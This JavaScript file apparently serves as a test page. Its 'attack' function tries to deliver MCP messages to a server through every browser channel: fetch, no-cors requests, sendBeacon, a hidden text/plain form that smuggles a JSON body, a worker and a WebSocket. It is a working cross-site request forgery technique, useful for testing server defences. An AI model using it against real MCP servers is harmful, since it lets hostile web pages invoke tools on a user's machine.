// A page that sends MCP messages to a server by every means of a browser. Served as it is.

/** The body of a form is `name=value`: this pair makes it one line of JSON. */
const fieldOf = (message) => {
  const text = JSON.stringify({ ...message, params: { ...message.params, _meta: { x: 'y' } } })
  const at = text.lastIndexOf('"y"')
  return { name: `${text.slice(0, at)}"`, value: text.slice(at + 2) }
}

const outcomeOf = (work) =>
  work.then(
    (value) => value,
    () => 'failed',
  )

const fetched = (url, init) =>
  outcomeOf(
    fetch(url, { method: 'POST', ...init }).then(async (response) =>
      response.type === 'opaque' ? 'opaque' : `status ${response.status}`,
    ),
  )

const attempts = {
  'fetch with JSON': (url, message) =>
    fetched(url, {
      headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: JSON.stringify(message),
    }),
  'fetch with text': (url, message) =>
    fetched(url, { mode: 'no-cors', body: `${JSON.stringify(message)}\n` }),
  'fetch with many lines': (url, message) =>
    fetched(url, { mode: 'no-cors', body: `${'\n'.repeat(20)}${JSON.stringify(message)}\n`.repeat(20) }),
  beacon: async (url, message) => {
    const target = `${url}?beacon`
    const sent = new Promise((resolve) => {
      new PerformanceObserver((list) => {
        if (list.getEntries().some(({ name }) => name === target)) resolve('sent')
      }).observe({ type: 'resource', buffered: true })
    })
    navigator.sendBeacon(target, `${JSON.stringify(message)}\n`)
    return await sent
  },
  form: async (url, message) => {
    const frame = document.createElement('iframe')
    frame.name = `frame ${Math.random()}`
    document.body.append(frame)
    const form = Object.assign(document.createElement('form'), {
      action: url,
      method: 'post',
      enctype: 'text/plain',
      target: frame.name,
    })
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', ...fieldOf(message) }))
    document.body.append(form)
    const loaded = new Promise((resolve) => frame.addEventListener('load', () => resolve('submitted')))
    form.submit()
    return await loaded
  },
  worker: (url, message) => {
    const source = `fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(`${JSON.stringify(message)}\n`)} })
      .then(() => postMessage('opaque'), () => postMessage('failed'))`
    const worker = new Worker(URL.createObjectURL(new Blob([source])))
    return new Promise((resolve) => {
      worker.onmessage = ({ data }) => resolve(data)
      worker.onerror = () => resolve('failed')
    })
  },
  WebSocket: (url, message) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http:', 'ws:'), 'mcp')
      socket.onopen = () => {
        socket.send(JSON.stringify(message))
      }
      socket.onmessage = () => resolve('answered')
      socket.onclose = () => resolve('failed')
    }),
}

globalThis.attack = async (url, message) => {
  const outcomes = {}
  for (const [name, attempt] of Object.entries(attempts)) outcomes[name] = await attempt(url, message)
  return outcomes
}
